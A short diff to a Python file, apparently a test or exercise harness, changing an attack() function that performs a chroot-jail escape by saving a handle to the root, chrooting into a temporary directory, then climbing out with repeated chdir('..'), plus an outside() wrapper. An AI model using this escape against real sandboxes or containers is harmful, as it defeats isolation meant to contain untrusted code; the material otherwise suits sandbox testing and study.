@@ -8,7 +8,10 @@ from kit import given, read
 
 def attack():
     above = os.open("/", os.O_RDONLY)
-    os.chroot(tempfile.mkdtemp(dir="/"))
+    folder = tempfile.mkdtemp()
+    os.mkdir(folder + "/tmp")
+    os.chroot(folder)
+    tempfile.tempdir = "/tmp"
     os.fchdir(above)
     for _ in range(40):
         os.chdir("..")
@@ -17,5 +20,8 @@ def attack():
 
 
 def outside():
-    os.chroot(tempfile.mkdtemp())
+    folder = tempfile.mkdtemp()
+    os.mkdir(folder + "/tmp")
+    os.chroot(folder)
+    tempfile.tempdir = "/tmp"
     return attack()
